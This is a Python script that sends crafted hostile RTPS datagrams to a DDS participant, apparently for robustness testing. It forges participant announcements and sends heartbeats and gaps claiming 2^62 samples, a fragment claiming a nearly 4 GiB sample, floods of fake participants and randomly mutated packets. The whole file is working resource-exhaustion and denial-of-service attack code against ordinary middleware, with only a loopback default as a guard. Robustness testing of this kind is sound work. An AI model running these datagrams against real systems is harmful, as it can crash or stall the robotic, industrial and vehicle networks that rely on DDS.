#!/usr/bin/env python3
"""Hostile RTPS datagrams to a participant, for tests of what it survives. Without other packages.

    rtps_attack.py heartbeat           --domain D
    rtps_attack.py gap                 --domain D
    rtps_attack.py announcements N     --domain D
    rtps_attack.py mutated N --seed S  --domain D
    rtps_attack.py claimed-size        --domain D

heartbeat      announces a participant, whose writer then claims 2^62 samples.
gap            announces a participant, whose writer then says that 2^62 samples do not exist.
announcements  announces N participants.
mutated        sends N datagrams that were valid until some of their bytes were changed.
claimed-size   sends one fragment of a sample that is said to be almost 4 GiB long.

The same arguments send the same datagrams. They go to the discovery port of one participant on this machine, number 0
unless --participant says otherwise; another --host must be confirmed by --not-loopback. Prints one JSON object.
"""

import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time

# Entities of discovery (RTPS 2.5, 9.3.1.5): writers and readers of participants, publications and subscriptions.
SPDP_WRITER, SPDP_READER = 0x000100C2, 0x000100C7
SEDP_WRITER, SEDP_READER = 0x000003C2, 0x000003C7
# All endpoints of discovery and liveliness (9.3.2.12).
ALL_ENDPOINTS = 0x00000C3F
VERSION, VENDOR = bytes([2, 4]), bytes([0x01, 0x99])
DATA, DATA_FRAG, HEARTBEAT, GAP = 0x15, 0x16, 0x07, 0x08
LITTLE_ENDIAN, HAS_DATA = 0x01, 0x04
PL_CDR_LE = bytes([0, 3, 0, 0])
# Datagrams between pauses, so that the receiver's buffer holds them.
BURST, PAUSE_S = 32, 0.005


def prefix(number):
    """The GUID prefix of the number-th participant that does not exist."""
    return VENDOR + b"attack" + struct.pack(">I", number)


def entity(entity_id):
    return struct.pack(">I", entity_id)


def sequence(number):
    return struct.pack("<iI", number >> 32, number & 0xFFFFFFFF)


def message(number, *submessages):
    return b"RTPS" + VERSION + VENDOR + prefix(number) + b"".join(submessages)


def submessage(kind, flags, content):
    return struct.pack("<BBH", kind, flags | LITTLE_ENDIAN, len(content)) + content


def parameter(pid, value):
    return struct.pack("<HH", pid, len(value)) + value


def locator(port):
    return struct.pack("<iI", 1, port) + bytes(12) + socket.inet_aton("127.0.0.1")


def announcement(number, port):
    """SPDP: a participant whose addresses are this script's socket."""
    payload = PL_CDR_LE + b"".join([
        parameter(0x0015, VERSION + bytes(2)),
        parameter(0x0016, VENDOR + bytes(2)),
        parameter(0x0050, prefix(number) + entity(0x000001C1)),
        parameter(0x0058, struct.pack("<I", ALL_ENDPOINTS)),
        parameter(0x0002, struct.pack("<iI", 100, 0)),
        parameter(0x0031, locator(port)),
        parameter(0x0032, locator(port)),
        parameter(0x0001, b""),
    ])
    head = struct.pack("<HH", 0, 16) + entity(SPDP_READER) + entity(SPDP_WRITER) + sequence(1)
    return message(number, submessage(DATA, HAS_DATA, head + payload))


def heartbeat(number, last):
    ends = sequence(1) + sequence(last) + struct.pack("<i", 1)
    return message(number, submessage(HEARTBEAT, 0, entity(SEDP_READER) + entity(SEDP_WRITER) + ends))


def gap(number, until):
    """From the second sample on: the first is still missing."""
    content = entity(SEDP_READER) + entity(SEDP_WRITER) + sequence(2) + sequence(until) + struct.pack("<I", 0)
    return message(number, submessage(GAP, 0, content))


def fragment(number, claimed_bytes):
    """The first 1024 bytes of a sample."""
    head = struct.pack("<HH", 0, 28) + entity(SEDP_READER) + entity(SEDP_WRITER) + sequence(1)
    head += struct.pack("<IHHI", 1, 1, 1024, claimed_bytes)
    return message(number, submessage(DATA_FRAG, 0, head + bytes(1024)))


def mutated(original, rng):
    """Some bytes changed; sometimes shorter, or longer by bytes of its own."""
    changed = bytearray(original)
    for _ in range(rng.randint(1, 8)):
        changed[rng.randrange(len(changed))] = rng.randrange(256)
    choice = rng.random()
    if choice < 0.2:
        del changed[rng.randrange(len(changed)):]
    elif choice < 0.3:
        at = rng.randrange(len(changed))
        changed += changed[at:at + rng.randrange(512)]
    return bytes(changed)


def datagrams(arguments, port):
    rng = random.Random(arguments.seed)
    if arguments.attack == "heartbeat":
        # The second is heard once the first made the writer known: it is sent again until then.
        return [announcement(0, port)] + [heartbeat(0, 1 << 62)] * 20
    if arguments.attack == "gap":
        return [announcement(0, port)] + [gap(0, 1 << 62)] * 20
    if arguments.attack == "announcements":
        return (announcement(number, port) for number in range(arguments.count))
    if arguments.attack == "mutated":
        kinds = [lambda n: announcement(n, port), lambda n: heartbeat(n, 10), lambda n: gap(n, 10), lambda n: fragment(n, 4096)]
        return (mutated(rng.choice(kinds)(n % 16), rng) for n in range(arguments.count))
    return [announcement(0, port)] + [fragment(0, 0xFFFFFFFF)] * 20


def parse():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=["heartbeat", "gap", "announcements", "mutated", "claimed-size"])
    parser.add_argument("count", type=int, nargs="?", default=1000, help="datagrams")
    parser.add_argument("--domain", type=int, required=True)
    parser.add_argument("--participant", type=int, default=0)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--not-loopback", action="store_true", help="the host is yours to attack")
    arguments = parser.parse_args()
    if not ipaddress.ip_address(arguments.host).is_loopback and not arguments.not_loopback:
        sys.exit(f"{arguments.host} is not this machine: add --not-loopback if it is yours to attack")
    return arguments


def main():
    arguments = parse()
    to = (arguments.host, 7410 + 250 * arguments.domain + 2 * arguments.participant)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.bind(("0.0.0.0" if arguments.not_loopback else "127.0.0.1", 0))
        port, sent = sender.getsockname()[1], 0
        is_slow = arguments.attack in ("heartbeat", "gap", "claimed-size")
        for datagram in datagrams(arguments, port):
            sender.sendto(datagram, to)
            sent += 1
            if is_slow:
                time.sleep(0.1)
            elif sent % BURST == 0:
                time.sleep(PAUSE_S)
    print(json.dumps({"event": "sent", "count": sent, "to": f"{to[0]}:{to[1]}"}))


if __name__ == "__main__":
    main()
